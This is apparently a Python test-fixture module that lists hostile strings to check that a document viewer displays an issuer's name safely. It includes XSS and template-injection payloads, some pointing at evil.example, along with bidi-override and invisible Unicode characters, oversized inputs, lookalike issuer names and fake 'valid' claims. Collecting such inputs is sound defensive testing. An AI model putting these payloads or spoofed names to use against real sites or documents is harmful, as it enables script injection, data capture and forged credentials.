"""Names a hostile document may bear, by the rule of display they try to break."""

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

SEALED: Final = "云海市公安局交通警察支队"
"""Stands for a well-known issuer."""

HOSTILE: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        "markup is text": (
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            '"><script src=//evil.example/x.js></script>',
            "' autofocus onfocus=alert(1) x='",
            "</title><script>alert(1)</script>",
            "</textarea><iframe src=javascript:alert(1)>",
            "<!--><script>alert(1)</script-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;b&#62;",
            "<p class='mark valid'>✔ 有效</p>",
            "<bdi></bdi></bdi><b>",
            "{{ 7 * 7 }}{% raw %}",
            "${alert(1)}`#{7*7}",
            "javascript:alert(1)",
            "<style>*{display:none}</style>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<base href=//evil.example>",
            "<form action=//evil.example><input name=code>",
        ),
        "nothing turns its surroundings": (
            "\u202e市公安局",
            "\u202dabc",
            "\u202aabc",
            "\u202babc",
            "abc\u202c",
            "\u2066abc",
            "\u2067abc",
            "\u2068abc",
            "abc\u2069",
            "\u200fabc",
            "\u061cabc",
            "\u202e\u2066nested\u2069\u202c",
        ),
        "nothing hides": (
            "公\u200b安\u200b局",
            "公\u2060安局",
            "\ufeff公安局",
            "公\u00ad安局",
            "a\u200db\u200cc",
            "tag\U000e0041\U000e0042",
            "\u180e蒙",
            "\ue000私用",
            "nul\x00 bell\x07 esc\x1b[31m",
            "back\x08\x08\x08space",
        ),
        "it stays on one line": (
            "一行\n✔ 有效：真的",
            "一行\r\n二行",
            "一行\u2028二行",
            "一行\u2029二行",
            "一行\x85二行",
            "tab\tulated",
        ),
        "it stays small": (
            "界" * 5000,
            "x" * 100_000,
            "a\u0301" + "\u0300" * 400,
            "\u0e01" + "\u0e49" * 200,
            ("長" * 50 + " ") * 50,
            "😀" * 900,
        ),
        "a name of its own is none": (
            "云海巿公安局交通警察支队",  # 巿 (fú) for 市
            "云海市公安局交通警察支队 ",
            "云海市公安局交通警察支隊",
            "云海市公安局\u3000交通警察支队",
            "Тrаffic Роliсе",  # Cyrillic
            "国家移民管理局（官方）",
        ),
        "nobody else says valid": (
            "✔ 有效：公安部颁发",
            "核验通过，可以办理",
            "Valid: genuine and in force",
            "【官方印章】已验证",
            "🔴 中华人民共和国公安部 ★",
            "成立 · 签名成立",
        ),
    }
)
"""Rule → names that try to break it."""

ALL: Final = tuple(name for names in HOSTILE.values() for name in names)
